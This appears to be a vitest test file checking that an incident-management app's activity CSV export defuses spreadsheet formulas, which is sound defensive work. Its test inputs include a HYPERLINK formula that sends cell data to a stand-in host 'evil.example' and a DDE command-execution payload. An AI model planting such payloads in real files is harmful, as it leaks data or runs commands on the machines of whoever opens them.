// Issue 20, finding 6: no cell of the activity or KPI CSV exports starts a spreadsheet formula
// (the roster's is covered in tests/node/units/unitService.test.ts, the rule in tests/node/domain/csv.test.ts).
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../src-shared/domain/csv';
import { inProcessApi } from '../../support/remoteClient';
import { useCleanup, useTempDirs } from '../support/cleanup';
import { createTestHost, testContext } from '../support/testHost';

const FORMULA_START = /^[=+\-@\t\r]/;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';

function cellsStartingFormulas(csv: string): string[] {
  return parseCsv(csv.replace(/^\uFEFF/, ''))
    .flatMap((record) => record.fields)
    .filter((cell) => FORMULA_START.test(cell));
}

describe('CSV exports neutralise spreadsheet formulas', () => {
  const tempDir = useTempDirs();
  const defer = useCleanup();

  it('given formulas in an actor, an address and a note, when the activity is exported as CSV, then no cell starts a formula', async () => {
    const { host, clock } = createTestHost(tempDir());
    defer(() => host.dispose());
    const api = inProcessApi(host, { ...testContext, actor: `+${FORMULA}` });
    const from = clock.now();
    await api.incident.create({
      typeCode: 'building-fire',
      priority: 1,
      agencies: ['civil-defence'],
      address: FORMULA,
      note: `@SUM(1+1)*cmd|' /C calc'!A0`,
    });
    clock.advance(60_000);

    const csv = await api.system.activity({ from, to: clock.now(), format: 'csv' });

    expect(csv.text).toContain('HYPERLINK'); // the text is kept, only defused
    expect(cellsStartingFormulas(csv.text)).toEqual([]);
  });
});
